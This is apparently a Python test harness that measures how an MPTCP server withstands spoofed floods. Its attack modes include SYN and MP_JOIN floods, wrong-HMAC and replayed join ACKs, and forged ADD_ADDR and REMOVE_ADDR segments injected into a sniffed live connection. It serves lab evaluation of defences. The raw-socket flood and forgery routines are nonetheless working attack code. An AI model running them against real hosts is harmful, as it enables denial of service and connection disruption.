#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Floods against an MPTCP server, beside a connection that sends all the while.

usage: flood.py serve ADDRESS BACKLOG
       flood.py attack KIND SERVER PACKETS NETNS

The attacker (Paasch, "Improving Multipath TCP", 6.2.1) knows what its attack needs: KIND is one of
ATTACKS below, or "none". It sends from addresses 10.9.0.0/16, which the server reaches through
this host and nobody has. Meanwhile others open connections, which join. Reports a "key=value" a
line: the first connection's rate before and during the attack (kbit/s), half-open requests at the
server at the peak, memory (kB) that the kernel held more, what became of the new connections.
"""

from __future__ import annotations

import contextlib
import ctypes
import hashlib
import hmac
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

import dpkt

PORT, IPPROTO_MPTCP, ETH_P_ALL = 5000, 262, 3
SOL_MPTCP, MPTCP_INFO = 284, 1
SYN, RST, ACK, JOIN = 2, 4, 16, 1
STATELESS = 2  # beside MP_JOIN's B, see Documentation/joins.md
PACE = 0.002  # seconds from one packet of the flood to the next
NEWCOMERS = 10
PATIENCE = 4  # seconds that a newcomer waits for its second subflow
ADD_ADDR, REMOVE_ADDR = 3, 4
CAPABLE_SYN = struct.pack("!BBBB", 30, 4, 0x01, 0x01)


def options(segment: dpkt.tcp.TCP) -> dict[int, bytes]:
    """MPTCP's, by subtype."""
    found = [body for kind, body in dpkt.tcp.parse_opts(segment.opts) if kind == 30]
    return {body[0] >> 4: body for body in found}


def join_syn(token: bytes, nonce: bytes, flags: int = 0) -> bytes:
    return struct.pack("!BBBB", 30, 12, JOIN << 4 | flags, 5) + token + nonce


class Wire:
    """Sends segments from an address of its choice, and sees what is on the wire."""

    def __init__(self, server: str, source: str) -> None:
        self.server, self.source = server, source
        self.sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
        self.sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, port: int, flags: int, seq: int, ack: int, opts: bytes) -> None:
        opts += b"\x01" * (-len(opts) % 4)
        tcp = dpkt.tcp.TCP(sport=port, dport=PORT, seq=seq, ack=ack, flags=flags, win=65000)
        tcp.opts, tcp.off = opts, 5 + len(opts) // 4
        source, target = socket.inet_aton(self.source), socket.inet_aton(self.server)
        packet = dpkt.ip.IP(src=source, dst=target, p=socket.IPPROTO_TCP, len=40 + len(opts), data=tcp)
        self.sender.sendto(bytes(packet), (self.server, 0))

    def wait(self, wanted: Callable[[dpkt.ip.IP], bool]) -> dpkt.tcp.TCP | None:
        """The next segment that is, if it comes within 3 seconds."""
        end = time.monotonic() + 3
        with contextlib.suppress(TimeoutError):
            while (left := end - time.monotonic()) > 0:
                self.sniffer.settimeout(left)
                frame, (_, kind, *_) = self.sniffer.recvfrom(65536)
                ip = dpkt.ip.IP(frame) if kind == dpkt.ethernet.ETH_TYPE_IP else None
                if ip is not None and isinstance(ip.data, dpkt.tcp.TCP) and wanted(ip):
                    return ip.data
        return None

    def answer(self, port: int) -> dpkt.tcp.TCP | None:
        source = socket.inet_aton(self.source)
        return self.wait(lambda ip: ip.dst == source and ip.data.dport == port)


def serve(address: str, backlog: int) -> None:
    """Count what comes; say how much it was when the peer has no more."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, PORT))
    listener.listen(backlog)
    print("listening", flush=True)
    while True:
        threading.Thread(target=sink, args=(listener.accept()[0],), daemon=True).start()


def sink(connection: socket.socket) -> None:
    total = 0
    with connection, contextlib.suppress(OSError):
        while data := connection.recv(65536):
            total += len(data)
        connection.sendall(str(total).encode())


class Bulk:
    """The connection that was there before: sends until told to stop."""

    def __init__(self, server: str) -> None:
        self.connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
        self.connection.connect((server, PORT))
        self.sent, self.stop = 0, False
        self.thread = threading.Thread(target=self.run)

    def run(self) -> None:
        while not self.stop:
            self.sent += self.connection.send(bytes(65536))

    def acked(self) -> int:
        """Bytes that the peer has acknowledged: mptcpi_bytes_acked."""
        info = self.connection.getsockopt(SOL_MPTCP, MPTCP_INFO, 96)
        return struct.unpack_from("Q", info, 72)[0]

    def subflows(self) -> int:
        return self.connection.getsockopt(SOL_MPTCP, MPTCP_INFO, 96)[0]

    def end(self) -> bool:
        """Did all of it arrive?"""
        self.stop = True
        self.thread.join()
        self.connection.shutdown(socket.SHUT_WR)
        return int(self.connection.recv(100) or -1) == self.sent


class Server:
    """What is seen of the server, from within its network namespace."""

    def __init__(self, netns: str) -> None:
        self.netns = os.open(f"/run/netns/{netns}", os.O_RDONLY)
        self.half_open, self.memory, self.stop = 0, 0, False
        self.thread = threading.Thread(target=self.watch)

    @staticmethod
    def unreclaimable() -> int:
        with Path("/proc/meminfo").open(encoding="ascii") as lines:
            return next(int(line.split()[1]) for line in lines if line.startswith("SUnreclaim"))

    @staticmethod
    def requests() -> int:
        """Sockets in SYN_RECV (state 03)."""
        with Path("/proc/thread-self/net/tcp").open(encoding="ascii") as lines:
            return sum(line.split()[3] == "03" for line in lines)

    def watch(self) -> None:
        ctypes.CDLL(None, use_errno=True).setns(self.netns, 0x40000000)
        before = self.unreclaimable()
        while not self.stop:
            self.half_open = max(self.half_open, self.requests())
            self.memory = max(self.memory, self.unreclaimable() - before)
            time.sleep(0.1)


class Attacker:
    """Sends the packets of a flood; knows the token, not the keys, but where it says so."""

    def __init__(self, server: str, keys: tuple[bytes, bytes], victim: dpkt.tcp.TCP) -> None:
        self.wire = Wire(server, "10.9.0.1")
        self.sniff_own()
        self.victim, self.keys = victim, keys
        self.token = hashlib.sha256(keys[1]).digest()[:4]

    def sniff_own(self) -> None:
        """Of what is on the wire, only what goes to 10.9.0.0/16."""
        code = [
            (0x20, 0, 0, 16),
            (0x54, 0, 0, 0xFFFF0000),
            (0x15, 0, 1, 0x0A090000),
            (6, 0, 0, 65535),
            (6, 0, 0, 0),
        ]
        program = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *line) for line in code))
        filter_ = struct.pack("HL", len(code), ctypes.addressof(program))
        self.wire.sniffer.setsockopt(socket.SOL_SOCKET, 26, filter_)

    def come_from(self, n: int) -> int:
        """Packet n has an address and a port of its own: the port."""
        self.wire.source = f"10.9.{n >> 8 & 255}.{n & 255 or 1}"
        return 1024 + n * 7 % 60000

    def join(self, n: int) -> None:
        """MP_JOIN with the connection's token, and nothing after it."""
        self.wire.send(self.come_from(n), SYN, 1000, 0, join_syn(self.token, os.urandom(4)))

    def unknown(self, n: int) -> None:
        """MP_JOIN with a token of nobody."""
        self.wire.send(self.come_from(n), SYN, 1000, 0, join_syn(os.urandom(4), os.urandom(4)))

    def third_ack(self, n: int) -> None:
        """MP_JOIN up to a third ACK with a wrong HMAC."""
        port = self.come_from(n)
        self.wire.send(port, SYN, 1000, 0, join_syn(self.token, b"wxyz"))
        synack = self.wire.answer(port)
        if synack is not None and JOIN in options(synack):
            wrong = struct.pack("!BBBB", 30, 24, JOIN << 4, 0) + os.urandom(20)
            self.wire.send(port, ACK, 1001, synack.seq + 1, wrong)

    def asks(self, n: int) -> None:
        """MP_JOIN that asks to be joined without state, and nothing after it."""
        syn = join_syn(self.token, os.urandom(4), STATELESS)
        self.wire.send(self.come_from(n), SYN, 1000, 0, syn)

    def long_ack(self, code: bytes, nonce: bytes) -> bytes:
        """The third ACK's MP_JOIN without state."""
        return struct.pack("!BBBB", 30, 28, JOIN << 4, 5) + code[:16] + nonce + self.token

    def guess(self, n: int) -> None:
        """Third ACKs of joins that were never asked for."""
        ack = int.from_bytes(os.urandom(4), "big")
        self.wire.send(self.come_from(n), ACK, 1001, ack, self.long_ack(os.urandom(16), os.urandom(4)))

    def replay(self, n: int) -> None:
        """A join that was right, once and for a short time, then its third ACK all the while."""
        port = self.come_from(0)
        if n == 0:
            nonce = b"wxyz"
            self.wire.send(port, SYN, 1000, 0, join_syn(self.token, nonce, STATELESS))
            synack = self.wire.answer(port)
            assert synack is not None, "the join is not answered"
            theirs = options(synack)[JOIN][10:14]
            code = hmac.new(b"".join(self.keys), nonce + theirs, hashlib.sha256).digest()
            self.third = (synack.seq + 1, self.long_ack(code, nonce))
            self.wire.send(port, ACK, 1001, *self.third)
            assert self.wire.answer(port) is not None, "there is no fourth ACK"
            self.wire.send(port, RST | ACK, 1001, self.third[0], b"")
        else:
            self.wire.send(port, ACK, 1001, *self.third)

    def capable(self, n: int) -> None:
        """MP_CAPABLE, and nothing after it."""
        self.wire.send(self.come_from(n), SYN, 1000, 0, CAPABLE_SYN)

    def plain(self, n: int) -> None:
        """SYNs of TCP, to compare with."""
        self.wire.send(self.come_from(n), SYN, 1000, 0, b"")

    def latest(self) -> int:
        """A sequence number that the server takes when the segment arrives."""
        port = self.victim.sport
        # a new one each time: what is on the wire now
        now = Wire(self.wire.server, "10.0.1.1")
        segment = now.wait(lambda ip: ip.data.sport == port and len(ip.data.data) > 0)
        now.sniffer.close()
        now.sender.close()
        # ahead of what waits in the queue, within the window
        return segment.seq + 65536 if segment else 0

    def forge(self, opts: bytes, seq: int) -> None:
        """A segment of the connection itself."""
        self.wire.source = "10.0.1.1"
        self.wire.send(self.victim.sport, ACK, seq & 0xFFFFFFFF, self.victim.ack, opts)

    def announce(self, n: int, keys: bytes) -> None:
        """ADD_ADDR, by somebody who sees the path; what it is signed with matters."""
        address = bytes([100 + n % 100, 10, 9, 1, n & 255])
        mac = hmac.new(keys, address + bytes(2), hashlib.sha256).digest()[-8:]
        self.forge(struct.pack("!BBB", 30, 16, ADD_ADDR << 4) + address + mac, self.latest())

    def add_addr(self, n: int) -> None:
        """Without the keys."""
        self.announce(n, os.urandom(16))

    def add_addr_signed(self, n: int) -> None:
        """With the keys, once: to see that the others are refused for want of them."""
        if n == 0:
            self.announce(n, b"".join(self.keys))

    def remove_addr(self, n: int) -> None:
        """REMOVE_ADDR of all identifiers, from somebody who does not see the sequence numbers."""
        self.forge(struct.pack("!BBBB", 30, 4, REMOVE_ADDR << 4, n & 255), self.victim.seq + (1 << 31))


ATTACKS: dict[str, Callable[[Attacker, int], None]] = {
    "join": Attacker.join,
    "unknown": Attacker.unknown,
    "hmac": Attacker.third_ack,
    "asks": Attacker.asks,
    "guess": Attacker.guess,
    "replay": Attacker.replay,
    "capable": Attacker.capable,
    "plain": Attacker.plain,
    "add_addr": Attacker.add_addr,
    "add_addr_signed": Attacker.add_addr_signed,
    "remove_addr": Attacker.remove_addr,
    "none": lambda _attacker, _n: None,
}


class Newcomer(threading.Thread):
    """Opens a connection in the middle, and wants it to be MPTCP with two subflows.

    The queues are full of the bulk's data: a SYN may be lost, and is repeated after one second, and
    after three. So it waits for the second subflow for as long as two losses take.
    """

    def __init__(self, server: str) -> None:
        super().__init__()
        self.server = server
        self.works = self.is_mptcp = self.joined = False

    def run(self) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP) as connection:
            connection.settimeout(5)
            with contextlib.suppress(OSError):
                connection.connect((self.server, PORT))
                connection.sendall(bytes(1000))
                self.look(connection)
                connection.shutdown(socket.SHUT_WR)
                self.works = connection.recv(100) == b"1000"

    def look(self, connection: socket.socket) -> None:
        end = time.monotonic() + PATIENCE
        while not self.joined and time.monotonic() < end:
            time.sleep(0.1)
            with contextlib.suppress(OSError):
                info = connection.getsockopt(SOL_MPTCP, MPTCP_INFO, 96)
                self.is_mptcp = not struct.unpack_from("I", info, 8)[0] & 1
                self.joined = info[0] > 0


def flood(act: Callable[[int], None], packets: int, server: str) -> list[Newcomer]:
    """Newcomers come in the second half, when the flood has done what it can."""
    newcomers = []
    for n in range(packets):
        act(n)
        time.sleep(PACE)
        if n >= packets // 2 and len(newcomers) < NEWCOMERS and n % (packets // 2 // NEWCOMERS) == 0:
            newcomers.append(Newcomer(server))
            newcomers[-1].start()
    return newcomers


def first_segment(wire: Wire) -> tuple[tuple[bytes, bytes], dpkt.tcp.TCP]:
    """The connection's keys, and its third ACK."""
    third = wire.wait(lambda ip: ip.data.dport == PORT and ip.data.flags == ACK and 0 in options(ip.data))
    assert third is not None, "no third ACK"
    return (options(third)[0][2:10], options(third)[0][10:18]), third


def rate(bulk: Bulk, since: tuple[float, int]) -> int:
    return int((bulk.acked() - since[1]) * 8 / 1000 / (time.monotonic() - since[0]))


def attack(kind: str, server: str, packets: int, netns: str) -> None:
    wire = Wire(server, "10.0.1.1")
    bulk = Bulk(server)
    bulk.connection.sendall(b"x")
    bulk.sent += 1
    attacker = Attacker(server, *first_segment(wire))
    wire.sniffer.close()
    bulk.thread.start()
    time.sleep(1)
    mark = (time.monotonic(), bulk.acked())
    time.sleep(3)
    print(f"before={rate(bulk, mark)}")
    subflows = bulk.subflows()
    watch = Server(netns)
    watch.thread.start()
    time.sleep(0.2)

    mark = (time.monotonic(), bulk.acked())
    newcomers = flood(lambda n: ATTACKS[kind](attacker, n), packets, server)
    print(f"during={rate(bulk, mark)}")
    for newcomer in newcomers:
        newcomer.join()
    watch.stop = True
    watch.thread.join()
    print(f"subflows={subflows} {bulk.subflows()}")
    print(f"half_open={watch.half_open}\nmemory={watch.memory}")
    for key in "works", "is_mptcp", "joined":
        print(f"{key}={sum(getattr(newcomer, key) for newcomer in newcomers)}")
    print(f"arrived={'all' if bulk.end() else 'not all'}")


def main() -> None:
    role, *rest = sys.argv[1:]
    if role == "serve":
        serve(rest[0], int(rest[1]))
    else:
        attack(rest[0], rest[1], int(rest[2]), rest[3])


if __name__ == "__main__":
    main()
